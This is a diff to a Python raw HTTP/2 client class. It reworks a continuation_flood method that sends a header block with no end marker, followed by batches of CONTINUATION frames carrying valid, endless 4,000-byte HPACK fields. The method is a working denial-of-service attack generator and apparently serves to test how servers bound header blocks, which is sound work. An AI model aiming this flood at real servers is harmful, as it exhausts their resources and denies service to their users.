@@ -335,27 +335,29 @@ class RawH2:
 
     def continuation_flood(self, frames=1_000_000, payload=0, batch=1000, timeout=60.0):
         """A HEADERS frame without END_HEADERS, then CONTINUATION frames of
-        `payload` bytes each (the block is one literal field whose value
-        never ends), `batch` frames a write, until `frames` are sent, the
-        connection ends or `timeout` passes. Returns how many were sent."""
+        `payload` bytes each, `batch` frames a write, until `frames` are sent,
+        the connection ends or `timeout` passes. Returns how many were sent.
+        The block is valid HPACK all along (:method GET, then with a payload
+        endless literal fields of 4,000 bytes), so only a bound on
+        CONTINUATION frames or header block bytes stops it, never a decoding
+        error."""
         sid = self.new_stream()
-        # :method GET (indexed), then a literal field "x" without indexing,
-        # value length 2^30 (HPACK integer, 7-bit prefix): never complete.
-        rest = (1 << 30) - 127
-        length = bytearray(b"\x7f")
-        while rest >= 128:
-            length.append(0x80 | (rest & 0x7F))
-            rest >>= 7
-        length.append(rest)
-        block = b"\x82\x00\x01x" + bytes(length)
-        if not self.send(self.headers_frame(sid, block, end_stream=True, end_headers=False)):
+        if not self.send(self.headers_frame(sid, b"\x82", end_stream=True, end_headers=False)):
             return 0
-        one = ContinuationFrame(sid, b"v" * payload).serialize()
+        # x-flood: v * 4000, a literal field without indexing (new name).
+        field = b"\x00\x07x-flood\x7f" + bytes([(4000 - 127) & 0x7F | 0x80, (4000 - 127) >> 7]) + b"v" * 4000
+        fields = bytearray()
         sent = 0
         deadline = time.monotonic() + timeout
         while sent < frames and time.monotonic() < deadline:
             k = min(batch, frames - sent)
-            if not self.send(one * k):
+            out = bytearray(ContinuationFrame(sid).serialize() * k if not payload else b"")
+            for _ in range(k if payload else 0):
+                while len(fields) < payload:
+                    fields += field
+                out += ContinuationFrame(sid, bytes(fields[:payload])).serialize()
+                del fields[:payload]
+            if not self.send(bytes(out)):
                 break
             sent += k
             self.poll(0)
